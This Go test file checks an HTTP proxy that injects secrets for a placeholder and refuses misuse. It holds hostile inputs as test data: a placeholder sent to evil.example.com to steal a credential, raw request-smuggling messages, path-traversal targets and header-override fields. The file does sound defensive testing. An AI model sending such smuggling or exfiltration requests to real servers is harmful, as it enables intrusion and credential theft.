package inspect

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cloche-dev/cloche/internal/testenv"
)

// hear is a server that remembers everything that it gets.
func hear(w **world) http.HandlerFunc {
	return func(_ http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			(*w).say("broken " + string(body))
			panic(http.ErrAbortHandler)
		}
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.Host, r.RequestURI)
		names := make([]string, 0, len(r.Header))
		for name := range r.Header {
			names = append(names, name)
		}
		slices.Sort(names)
		for _, name := range names {
			for _, v := range r.Header[name] {
				fmt.Fprintf(&b, "%s: %s\n", name, v)
			}
		}
		fmt.Fprintf(&b, "\n%s", body)
		(*w).say(b.String())
	}
}

func listening(t testing.TB, options ...option) *world {
	var w *world
	w = newWorld(t, hear(&w), options...)
	return w
}

func basic(text string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte(text)) }

func TestSecretIsReplaced(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		w := listening(t, withSecret(Place{Header: "authorization"}, Place{Header: "X-Api-Key"}, Place{Query: "access_token"}, Place{JSON: "client.secret"}))
		client := w.client(h2)
		for _, c := range []struct{ target, field, body, want string }{
			{"/", "Authorization: Bearer " + placeholder, "", "Authorization: Bearer " + secretValue},
			{"/", "Authorization: token " + placeholder, "", "Authorization: token " + secretValue},
			{"/", "Authorization: " + basic("me:"+placeholder), "", "Authorization: " + basic("me:"+secretValue)},
			{"/", "Authorization: " + basic(placeholder+":"), "", "Authorization: " + basic(secretValue+":")},
			{"/", "Authorization: Bearer " + base64.RawURLEncoding.EncodeToString([]byte(placeholder)), "", "Authorization: Bearer " + base64.RawURLEncoding.EncodeToString([]byte(secretValue))},
			{"/", "x-api-key: " + placeholder, "", "X-Api-Key: " + secretValue},
			{"/x?a=1&access_token=" + placeholder + "&b=%2F;c", "A: b", "", "/x?a=1&access_token=" + secretValue + "&b=%2F;c"},
			{"/", "Content-Type: application/json", `{"a": ["x", {"secret": 1}], "client": {"secret" : "` + placeholder + `"}}`, `{"a": ["x", {"secret": 1}], "client": {"secret" : "` + secretValue + `"}}`},
		} {
			before := len(w.got())
			res, body := do(t, client, request(t, "POST", c.target, strings.NewReader(c.body), c.field))
			if res.StatusCode != http.StatusOK {
				t.Fatalf("%s %s: %s %s", c.target, c.field, res.Status, body)
			}
			if got := w.got()[before]; !strings.Contains(got, c.want) || strings.Contains(got, placeholder) {
				t.Errorf("%s %s: the server got\n%s", c.target, c.field, got)
			}
		}
		if len(w.misused()) != 0 {
			t.Errorf("misuses: %+v", w.misused())
		}
		for _, e := range w.recorded(8) {
			if !slices.Equal(e.Secrets, []string{"TOKEN"}) || strings.Contains(fmt.Sprintf("%+v", e), secretValue) {
				t.Errorf("recorded %+v", e)
			}
		}
	})
}

// A request without a placeholder goes out as it came.
func TestOtherRequestsAreUntouched(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		w := listening(t, withSecret())
		r := request(t, "POST", "/a%2Fb//c?x=%zz;y&&z=+", strings.NewReader("plain"), "Authorization: Bearer other", "X-Forwarded-For: 1.2.3.4", "Cookie: a=b; c=d", "Accept-Encoding: br, gzip", "X-Two: 1", "X-Two: 2")
		r.Header["User-Agent"] = nil
		if res, body := do(t, w.client(h2), r); res.StatusCode != http.StatusOK {
			t.Fatalf("%s %s", res.Status, body)
		}
		want := "POST api.example.com /a%2Fb//c?x=%zz;y&&z=+\nAccept-Encoding: gzip\nAuthorization: Bearer other\nContent-Length: 5\nCookie: a=b; c=d\nX-Forwarded-For: 1.2.3.4\nX-Two: 1\nX-Two: 2\n\nplain"
		got := strings.Replace(w.got()[0], "Cookie: a=b\nCookie: c=d", "Cookie: a=b; c=d", 1)
		if got != want {
			t.Errorf("the server got\n%s\nwant\n%s", got, want)
		}
	})
}

// A placeholder is refused everywhere else, before anything of the request is sent.
func TestPlaceholderElsewhere(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte("x" + placeholder + "yz"))
	percent := ""
	for _, c := range []byte(placeholder) {
		percent += fmt.Sprintf("%%%02x", c)
	}
	both(t, func(t *testing.T, h2 bool) {
		w := listening(t, withSecret(Place{Header: "Authorization"}, Place{Query: "token"}, Place{JSON: "token"}))
		client := w.client(h2)
		for _, c := range []struct{ name, method, target, field, body, where string }{
			{"other field", "GET", "/", "X-Key: " + placeholder, "", "the field X-Key"},
			{"other field, base64", "GET", "/", "X-Key: " + encoded, "", "the field X-Key"},
			{"referer", "GET", "/", "Referer: https://x/?" + placeholder, "", "the field Referer"},
			{"cookie", "GET", "/", "Cookie: a=" + placeholder, "", "the field Cookie"},
			{"proxy", "GET", "/", "Proxy-Authorization: " + basic("a:"+placeholder), "", "the field Proxy-Authorization"},
			{"name of a field", "GET", "/", placeholder + ": x", "", "the name of a field"},
			{"twice, once in hex", "GET", "/", "Authorization: Bearer " + placeholder + " " + hex.EncodeToString([]byte(placeholder)), "", "the field Authorization"},
			{"path", "GET", "/" + placeholder, "A: b", "", "the path"},
			{"path, escaped", "GET", "/" + percent, "A: b", "", "the path"},
			{"other parameter", "GET", "/?q=" + placeholder, "A: b", "", "the query"},
			{"name of a parameter", "GET", "/?" + placeholder + "=1", "A: b", "", "the query"},
			{"part of a parameter", "GET", "/?token=x" + placeholder, "A: b", "", "the query"},
			{"parameter behind a semicolon", "GET", "/?a=1;token=" + placeholder, "A: b", "", "the query"},
			{"escaped parameter", "GET", "/?q=" + percent, "A: b", "", "the query"},
			{"parameter in base64", "GET", "/?q=" + url.QueryEscape(encoded), "A: b", "", "the query"},
			{"broken query", "GET", "/?q=%zz" + percent, "A: b", "", "the query"},
			{"body", "POST", "/", "Content-Type: text/plain", "a gist with " + placeholder, "the body"},
			{"body in base64", "POST", "/", "Content-Type: text/plain", encoded, "the body"},
			{"body in hex", "POST", "/", "Content-Type: text/plain", hex.EncodeToString([]byte(placeholder)), "the body"},
			{"body, escaped", "POST", "/", "Content-Type: application/x-www-form-urlencoded", "token=" + percent, "the body"},
			{"other JSON member", "POST", "/", "Content-Type: application/json", `{"a":"` + placeholder + `"}`, "the body"},
			{"member below", "POST", "/", "Content-Type: application/json", `{"a":{"token":"` + placeholder + `"}}`, "the body"},
			{"part of a member", "POST", "/", "Content-Type: application/json", `{"token":"x` + placeholder + `"}`, "the body"},
			{"behind JSON", "POST", "/", "Content-Type: application/json", `{"token":"` + placeholder + `"} ` + placeholder, "the body"},
			{"trace", "TRACE", "/", "Authorization: Bearer " + placeholder, "", "a TRACE request, which servers send back"},
		} {
			t.Run(c.name, func(t *testing.T) {
				count := len(w.misused())
				res, body := do(t, client, request(t, c.method, c.target, strings.NewReader(c.body), c.field))
				a := denied(t, res, body, 403)
				if a.Error != "denied by cloche" || a.Rule != "secrets" || a.Subject != "TOKEN" || !strings.Contains(a.Reason, c.where) {
					t.Errorf("the client got %s", body)
				}
				testenv.Eventually(t, "a misuse", func() bool { return len(w.misused()) > count })
				m := w.misused()[count]
				if m.Where != c.where || m.Foreign || m.Secret != "TOKEN" || m.Host != apiHost || m.Method != c.method {
					t.Errorf("misuse %+v", m)
				}
			})
		}
		if got := w.got(); len(got) != 0 {
			t.Errorf("the server got %d requests: %q", len(got), got)
		}
	})
}

// Sending the placeholder to another inspected host is an attempt to steal the secret.
func TestPlaceholderToOtherHost(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		w := listening(t, withSecret(), withHost("evil.example.com"))
		res, body := do(t, w.client(h2), request(t, "GET", "https://evil.example.com/", nil, "Authorization: Bearer "+placeholder))
		denied(t, res, body, 403)
		if m := w.misused(); len(m) != 1 || !m[0].Foreign || m[0].Host != "evil.example.com" || len(w.got()) != 0 {
			t.Errorf("misuses %+v, the server got %q", m, w.got())
		}
		if e := w.recorded(1)[0]; !e.Refused || e.Status != 403 {
			t.Errorf("recorded %+v", e)
		}
	})
}

// In a body that is too long to be held, the request ends before the placeholder is
// complete, however it is split.
func TestPlaceholderInStreamedBody(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		for _, size := range []int64{-1, 200000} {
			var w *world
			w = newWorld(t, hear(&w), withSecret())
			in, out := io.Pipe()
			go func() {
				defer out.Close()
				out.Write(bytes.Repeat([]byte("a"), 100000))
				for _, c := range []byte(placeholder) {
					if _, err := out.Write([]byte{c}); err != nil {
						return
					}
				}
				out.Write(bytes.Repeat([]byte("b"), 100000-len(placeholder)))
			}()
			r := request(t, "POST", "/", in)
			r.ContentLength = size
			res, err := w.client(h2).Do(r)
			if err == nil {
				body, _ := io.ReadAll(res.Body)
				res.Body.Close()
				denied(t, res, string(body), 403)
			}
			in.Close()
			testenv.Eventually(t, "a misuse", func() bool { return len(w.misused()) == 1 })
			if m := w.misused()[0]; m.Where != "the body" {
				t.Errorf("misuse %+v", m)
			}
			testenv.Eventually(t, "the end at the server", func() bool { return len(w.got()) == 1 })
			if got := w.got()[0]; !strings.HasPrefix(got, "broken") || strings.Contains(got, placeholder[:4]) || strings.Contains(got, "b"+"b") {
				t.Errorf("the server got %d bytes that end in %q", len(got), got[max(0, len(got)-60):])
			}
		}
	})
}

// A stream whose answer has begun is broken off on both sides.
func TestPlaceholderInOpenStream(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		ended := make(chan string, 1)
		w := newWorld(t, func(w http.ResponseWriter, r *http.Request) {
			rc := http.NewResponseController(w)
			_ = rc.EnableFullDuplex()
			io.WriteString(w, "begun")
			rc.Flush()
			got, err := io.ReadAll(r.Body)
			ended <- fmt.Sprintf("%s, %v", got, err != nil)
		}, withSecret())
		in, out := io.Pipe()
		defer in.Close()
		res, err := w.client(h2).Do(request(t, "POST", "/", in))
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		go io.WriteString(out, "first "+placeholder+" last")
		if got := <-ended; got != "first , true" && got != ", true" {
			t.Errorf("the server got %s", got)
		}
		if body, err := io.ReadAll(res.Body); err == nil {
			t.Errorf("the answer looks complete: %q", body)
		}
		if e := w.recorded(1)[0]; !e.Refused || len(w.misused()) != 1 {
			t.Errorf("recorded %+v, misuses %+v", e, w.misused())
		}
	})
}

func TestPlaceholderInTrailer(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		var w *world
		w = newWorld(t, hear(&w), withSecret())
		in, out := io.Pipe()
		r := request(t, "POST", "/", in)
		r.Trailer = http.Header{"X-Sum": nil}
		go func() {
			io.WriteString(out, "body")
			r.Trailer.Set("X-Sum", placeholder)
			out.Close()
		}()
		if res, err := w.client(h2).Do(r); err == nil {
			body, _ := io.ReadAll(res.Body)
			res.Body.Close()
			denied(t, res, string(body), 403)
		}
		testenv.Eventually(t, "a misuse", func() bool { return len(w.misused()) == 1 })
		if m := w.misused()[0]; m.Where != "the trailer X-Sum" {
			t.Errorf("misuse %+v", m)
		}
		for _, got := range w.got() {
			if !strings.HasPrefix(got, "broken") {
				t.Errorf("the server got a complete request: %q", got)
			}
		}
	})
}

// A header of HTTP/2 may come in pieces.
func TestPlaceholderInContinuation(t *testing.T) {
	w := listening(t, withSecret())
	r := request(t, "GET", "/", nil, "X-Long: "+strings.Repeat("a", 40000), "X-Key: "+placeholder)
	res, body := do(t, w.client(true), r)
	denied(t, res, body, 403)
	if len(w.got()) != 0 {
		t.Errorf("the server got %q", w.got())
	}
}

func TestEncodedJSONIsRefused(t *testing.T) {
	w := listening(t, withSecret(Place{JSON: "token"}))
	var z bytes.Buffer
	g := gzip.NewWriter(&z)
	fmt.Fprintf(g, `{"token":%q}`, placeholder)
	g.Close()
	res, body := do(t, w.client(true), request(t, "POST", "/", &z, "Content-Type: application/json", "Content-Encoding: gzip"))
	if a := denied(t, res, body, 403); !strings.Contains(a.Reason, "coding") || len(w.got()) != 0 {
		t.Errorf("the client got %s, the server %q", body, w.got())
	}
}

// A long JSON body is streamed, and a placeholder in it refused.
func TestLongJSON(t *testing.T) {
	w := listening(t, withSecret(Place{JSON: "token"}))
	long := `{"x":"` + strings.Repeat("y", maxJSON) + `"`
	res, _ := do(t, w.client(true), request(t, "POST", "/", strings.NewReader(long+"}"), "Content-Type: application/json"))
	if res.StatusCode != http.StatusOK || !strings.HasSuffix(w.got()[0], long+"}") {
		t.Errorf("got %s", res.Status)
	}
	res, body := do(t, w.client(false), request(t, "POST", "/", strings.NewReader(long+`,"token":"`+placeholder+`"}`), "Content-Type: application/json"))
	denied(t, res, body, 403)
}

func TestSourceFails(t *testing.T) {
	for name, c := range map[string]struct {
		value  string
		err    error
		reason string
	}{
		"error":     {secretValue, errors.New("keyring says " + secretValue), "could not be read"},
		"empty":     {"", nil, "is empty"},
		"line end":  {secretValue + "\r\nX-Other: 1", nil, "line end"},
		"zero byte": {secretValue + "\x00", nil, "control"},
	} {
		t.Run(name, func(t *testing.T) {
			w := listening(t, withSecret(), func(_ *world, c2 *Config, _ *tls.Config) {
				c2.Secrets[0].Value = func(context.Context) ([]byte, error) { return []byte(c.value), c.err }
			})
			res, body := do(t, w.client(true), request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder))
			if a := denied(t, res, body, 502); !strings.Contains(a.Reason, c.reason) || strings.Contains(body, "S3cret") || len(w.got()) != 0 {
				t.Errorf("the client got %s, the server %q", body, w.got())
			}
			if e := w.recorded(1)[0]; e.Err == nil || c.err != nil && !errors.Is(e.Err, c.err) {
				t.Errorf("recorded %v", e.Err)
			}
		})
	}
}

// The value is asked for when it is used, not before, and its bytes are cleared.
func TestValueIsAskedWhenUsed(t *testing.T) {
	var given [][]byte
	w := listening(t, withSecret(), func(_ *world, c *Config, _ *tls.Config) {
		c.Secrets[0].Value = func(context.Context) ([]byte, error) {
			given = append(given, fmt.Appendf(nil, "value-number-%d", len(given)))
			return given[len(given)-1], nil
		}
	})
	client := w.client(true)
	do(t, client, request(t, "GET", "/", nil, "Authorization: Bearer other"))
	if len(given) != 0 {
		t.Error("the value was asked for without need")
	}
	for n := range 2 {
		do(t, client, request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder))
		if got := w.got()[n+1]; !strings.Contains(got, fmt.Sprintf("Bearer value-number-%d\n", n)) {
			t.Errorf("the server got %s", got)
		}
	}
	for _, v := range given {
		if len(bytes.Trim(v, "\x00")) != 0 {
			t.Errorf("the bytes %q were not cleared", v)
		}
	}
}

func TestJudge(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		var asked []Request
		w := listening(t, withSecret(Place{Query: "token"}), withJudge(func(r Request) error {
			asked = append(asked, r)
			if r.Method == http.MethodDelete {
				return &Refusal{Text: "DELETE is not allowed", JSON: []byte(`{"error":"denied by cloche","grant":"--allow x"}`)}
			}
			if strings.HasPrefix(r.Path, "/private/") {
				return errRefusedByTest
			}
			return nil
		}))
		client := w.client(h2)
		res, _ := do(t, client, request(t, "GET", "/a%20b;v=1?token="+placeholder, nil))
		want := Request{Host: apiHost, Port: 443, Method: "GET", Path: "/a b;v=1", Target: "/a%20b;v=1?token=" + placeholder}
		if res.StatusCode != http.StatusOK || len(asked) != 1 || asked[0] != want {
			t.Errorf("judged %+v, answered %s", asked, res.Status)
		}
		res, body := do(t, client, request(t, "DELETE", "/x", nil))
		if a := denied(t, res, body, 403); a.Error != "denied by cloche" || !strings.Contains(body, `"grant":"--allow x"`) {
			t.Errorf("got %s", body)
		}
		res, body = do(t, client, request(t, "GET", "/private/x", nil))
		if a := denied(t, res, body, 403); a.Host != apiHost || a.Port != 443 || a.Path != "/private/x" || a.Reason != errRefusedByTest.Error() {
			t.Errorf("got %s", body)
		}
		if len(w.got()) != 1 {
			t.Errorf("the server got %q", w.got())
		}
		if e := w.recorded(3)[1]; !e.Refused || e.Status != 403 || e.Err.Error() != "DELETE is not allowed" {
			t.Errorf("recorded %+v", e)
		}
	})
}

// What servers read in different ways is not judged by one of them.
func TestAmbiguousRequests(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		w := listening(t, withJudge(func(Request) error { return nil }))
		client := w.client(h2)
		for _, target := range []string{
			"/a/%2e%2e/b", "/a/%2E/b", "/a%2fb", "/a%2Fb", "/a//b", "/a/./b", "/a/../b", "/a%5cb", "/a%5Cb", "/a%252eb", "/a%2541", "/a%00b", "/a%0ab", "/a%ffb", "//a", "/a;/b/..;/c", "/%23", "/a%3fb",
		} {
			r := request(t, "GET", "/", nil)
			r.URL.Opaque = "//" + apiHost + target // sent as it stands here
			res, body := do(t, client, r)
			if a := denied(t, res, body, 403); !strings.HasPrefix(a.Reason, "the path") {
				t.Errorf("%s: %s", target, body)
			}
		}
		for _, field := range []string{
			"X-Original-URL: /admin", "X-Rewrite-Url: /admin", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X_Original_Url: /admin", "X-Method-Override: PUT",
			"X-Forwarded-Host: evil.example.com", "Forwarded: host=evil.example.com", "X-Host: evil.example.com", "Destination: /other", "Content_Length: 5", "Transfer_Encoding: chunked",
		} {
			res, body := do(t, client, request(t, "GET", "/", nil, field))
			if a := denied(t, res, body, 403); !strings.Contains(a.Reason, "field") {
				t.Errorf("%s: %s", field, body)
			}
		}
		if len(w.got()) != 0 {
			t.Errorf("the server got %q", w.got())
		}
		for _, field := range []string{"X-Forwarded-Host: " + apiHost, "X-Forwarded-For: 1.2.3.4", "X-Request-Id: 7"} {
			if res, body := do(t, client, request(t, "GET", "/ok", nil, field)); res.StatusCode != http.StatusOK {
				t.Errorf("%s: %s", field, body)
			}
		}
		if h2 {
			return
		}
		for _, target := range []string{"/a\\b", "/a\x01b"} {
			c := w.raw()
			fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, apiHost)
			if res, body := readAnswer(t, c); res.StatusCode != http.StatusBadRequest && res.StatusCode != http.StatusForbidden {
				t.Errorf("%q: %s %s", target, res.Status, body)
			}
		}
	})
}

// Hosts without rules about paths get what clients send: npm asks for @scope%2fname.
func TestLenientHost(t *testing.T) {
	w := listening(t, withJudge(func(r Request) error {
		if r.Target != "/@scope%2fname" {
			return errRefusedByTest
		}
		return nil
	}), func(_ *world, c *Config, _ *tls.Config) {
		c.Lenient = func(_ context.Context, host string, port uint16) bool { return host == apiHost && port == 443 }
	})
	if res, body := do(t, w.client(true), request(t, "GET", "/@scope%2fname", nil)); res.StatusCode != http.StatusOK || !strings.Contains(w.got()[0], "/@scope%2fname") {
		t.Errorf("%s %s: %q", res.Status, body, w.got())
	}
}

// Requests that two servers could read in two ways are refused, or written so that only
// one reading is left.
func TestSmuggling(t *testing.T) {
	host := "Host: " + apiHost + "\r\n"
	hidden := "GET /hidden HTTP/1.1\r\n" + host + "\r\n"
	for name, message := range map[string]string{
		"CL and TE":               "POST /a HTTP/1.1\r\n" + host + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"TE and CL, hidden":       "POST /a HTTP/1.1\r\n" + host + fmt.Sprintf("Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n", 5+len(hidden)) + "0\r\n\r\n" + hidden,
		"two lengths":             "POST /a HTTP/1.1\r\n" + host + "Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + hidden,
		"length with a sign":      "POST /a HTTP/1.1\r\n" + host + "Content-Length: +44\r\n\r\n" + hidden,
		"two codings":             "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
		"coding with a tab":       "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + hidden,
		"coding, space before :":  "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + hidden,
		"folded line":             "POST /a HTTP/1.1\r\n" + host + "X: a\r\n Content-Length: 44\r\n\r\n" + hidden,
		"bare LF in a chunk":      "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n1\nx\r\n0\r\n\r\n" + hidden,
		"bad chunk":               "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n1x\r\na\r\n0\r\n\r\n" + hidden,
		"chunk without end":       "POST /a HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n3\r\nabcXX0\r\n\r\n" + hidden,
		"two hosts":               "GET /a HTTP/1.1\r\n" + host + "Host: other.example.com\r\n\r\n" + hidden,
		"host in the target":      "GET https://other.example.com/hidden HTTP/1.1\r\n" + host + "\r\n",
		"another scheme":          "GET foo:bar HTTP/1.1\r\n" + host + "\r\n",
		"a body that GET ignores": "GET /a HTTP/1.1\r\n" + host + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(hidden)) + hidden,
		"connect":                 "CONNECT " + apiHost + ":443 HTTP/1.1\r\n" + host + "\r\n" + hidden,
		"upgrade to HTTP/2":       "GET /a HTTP/1.1\r\n" + host + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
		"HTTP/0.9":                "GET /hidden\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			w := listening(t, withProtocols("http/1.1"), withJudge(func(r Request) error {
				if r.Path == "/hidden" {
					return errRefusedByTest
				}
				return nil
			}))
			c := w.raw()
			io.WriteString(c, message)
			_ = c.CloseWrite()
			_ = c.SetReadDeadline(time.Now().Add(testenv.Patience))
			io.Copy(io.Discard, c)
			c.Close()
			w.result()
			for _, got := range w.got() {
				head, _, _ := strings.Cut(got, "\n\n")
				if strings.Contains(head, "/hidden") || strings.Contains(head, "Upgrade") || strings.Contains(head, "Transfer") {
					t.Errorf("the server got %q", got)
				}
			}
			if name == "a body that GET ignores" && w.dials != 1 {
				t.Errorf("%d connections", w.dials)
			}
		})
	}
}

// echo sends back what the request has in the field and the body, in the ways of echo
// services.
func TestAnswersAreScrubbed(t *testing.T) {
	spellingsOf := func(s string) []string {
		quoted, _ := json.Marshal(s)
		return []string{s, string(quoted), base64.StdEncoding.EncodeToString([]byte(s)), base64.URLEncoding.EncodeToString([]byte("a:" + s)),
			base64.StdEncoding.EncodeToString([]byte("xy" + s)), hex.EncodeToString([]byte(s)), url.QueryEscape(s), strings.ToUpper(hex.EncodeToString([]byte(s)))}
	}
	both(t, func(t *testing.T, h2 bool) {
		for _, code := range []string{"", "gzip", "deflate"} {
			t.Run("coding "+code, func(t *testing.T) {
				w := newWorld(t, func(w http.ResponseWriter, r *http.Request) {
					got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
					w.Header().Set("X-Echo", got)
					w.Header().Set("Set-Cookie", "a="+got)
					w.Header().Set("Trailer", "X-End")
					var out io.Writer = w
					if code != "" {
						w.Header().Set("Content-Encoding", code)
						z := encoder(w, code)
						defer z.Close()
						out = z
					}
					for _, s := range spellingsOf(got) {
						for i := range len(s) { // as much in pieces as can be
							out.Write([]byte{s[i]})
							if code == "" && i%7 == 0 {
								http.NewResponseController(w).Flush()
							}
						}
						io.WriteString(out, "\n")
					}
					w.Header().Set("X-End", got)
				}, withSecret())
				client := w.client(h2)
				res, body := do(t, client, request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder, "Accept-Encoding: gzip"))
				got := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
				for n, want := range spellingsOf(placeholder) {
					if n >= 2 && n <= 4 { // the last letter of base64 also depends on what follows
						want = want[:len(want)-3]
					}
					if n >= len(got) || !strings.HasPrefix(got[n], want) || len(body) != len(strings.Join(spellingsOf(placeholder), "\n"))+1 {
						t.Fatalf("the client got\n%s\nwithout %s", body, want)
					}
				}
				if res.Header.Get("Content-Encoding") != "" {
					t.Errorf("header %v", res.Header)
				}
				if res.Header.Get("X-Echo") != placeholder || res.Header.Get("Set-Cookie") != "a="+placeholder || res.Trailer.Get("X-End") != placeholder {
					t.Errorf("header %v, trailer %v", res.Header, res.Trailer)
				}
			})
		}
	})
}

func encoder(w io.Writer, code string) io.WriteCloser {
	if code == "gzip" {
		return gzip.NewWriter(w)
	}
	return newZlib(w)
}

// Answers keep their length, and other hosts do not give values away either.
func TestOtherAnswersAreScrubbed(t *testing.T) {
	w := newWorld(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(len(secretValue)+2))
		fmt.Fprintf(w, "<%s>", secretValue)
	}, withSecret())
	client := w.client(true)
	if _, body := do(t, client, request(t, "GET", "/", nil)); body != "<"+secretValue+">" {
		t.Errorf("a value that was never used is known: %s", body)
	}
	do(t, client, request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder))
	res, body := do(t, client, request(t, "GET", "/", nil))
	if body != "<"+placeholder+">" || res.ContentLength != int64(len(body)) {
		t.Errorf("got %s with length %d", body, res.ContentLength)
	}
}

// Hints before the answer go through, without what an answer must not have.
func TestEarlyHintsAreScrubbed(t *testing.T) {
	both(t, func(t *testing.T, h2 bool) {
		w := newWorld(t, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Link", r.Header.Get("Authorization"))
			w.Header().Set("Alt-Svc", "h3")
			w.WriteHeader(http.StatusEarlyHints)
			io.WriteString(w, "ok")
		}, withSecret())
		var hints http.Header
		r := request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder)
		r = r.WithContext(httptrace.WithClientTrace(r.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
			hints = http.Header(h)
			return nil
		}}))
		if _, body := do(t, w.client(h2), r); body != "ok" || hints.Get("Link") != "Bearer "+placeholder || hints.Get("Alt-Svc") != "" {
			t.Errorf("hints %v, then %q", hints, body)
		}
	})
}

func TestUnknownCodingIsRecorded(t *testing.T) {
	w := newWorld(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Encoding", "br")
		io.WriteString(w, "\x0b\x02\x80hello\x03")
	}, withSecret())
	res, body := do(t, w.client(true), request(t, "GET", "/", nil, "Authorization: Bearer "+placeholder))
	if res.Header.Get("Content-Encoding") != "br" || body != "\x0b\x02\x80hello\x03" || !w.recorded(1)[0].Opaque {
		t.Errorf("got %q, recorded %+v", body, w.recorded(1))
	}
}

func TestConfigErrors(t *testing.T) {
	hosts := func(string, uint16) bool { return true }
	for want, s := range map[string][]Secret{
		"no source":    {{Name: "A", Placeholder: placeholder, Hosts: hosts}},
		"shorter than": {{Name: "A", Placeholder: "short", Value: give("x"), Hosts: hosts}},
		"one of":       {{Name: "A", Placeholder: placeholder, Value: give("x"), Hosts: hosts, Places: []Place{{Header: "A", Query: "b"}}}},
		"cannot be in": {{Name: "A", Placeholder: placeholder, Value: give("x"), Hosts: hosts, Places: []Place{{Header: "Connection"}}}},
		"contain each other": {
			{Name: "A", Placeholder: placeholder, Value: give("x"), Hosts: hosts},
			{Name: "B", Placeholder: placeholder + "more", Value: give("x"), Hosts: hosts},
		},
	} {
		if _, err := New(Config{Secrets: s}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", want, err)
		}
	}
}
